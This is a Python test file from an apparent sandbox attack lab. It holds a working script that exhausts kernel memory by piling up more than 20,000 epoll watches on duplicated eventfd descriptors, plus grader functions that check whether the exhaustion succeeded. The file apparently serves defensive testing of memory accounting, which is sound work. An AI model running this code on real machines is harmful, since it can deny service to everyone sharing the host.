"""Wants the kernel's memory, by watches of epoll: every number of every file is one, and no process has them.

Won: 20,000 were had by a process with 128 files, of 190 bytes each (a user may have 4 % of the machine's memory).
"""

from tests.attacks.lab import Attack, Evidence

WALL = "memory_is_in_processes"
CELL = """
import ctypes, os, select
watch = ctypes.CDLL(None).epoll_ctl
files = [os.eventfd(0) for _ in range(30)]
try:
    polls = [select.epoll() for _ in range(20)]
except OSError as error:
    raise Exception(f"no epoll: {error}") from None
event, had = ctypes.create_string_buffer(12), 0
for file in files:
    for number in range(90, 126):
        os.dup2(file, number)
        had += sum(watch(poll.fileno(), 1, number, event) == 0 for poll in polls)
raise Exception(f"LOOT {had} watches" if had > 20_000 else f"no epoll: {had} watches")
"""
ATTACK = Attack(first=[CELL])


def won(evidence: Evidence) -> bool:
    return "LOOT" in evidence.loot


def took_place(evidence: Evidence) -> bool:
    """It tried."""
    return "LOOT" in evidence.loot or "no epoll" in evidence.told
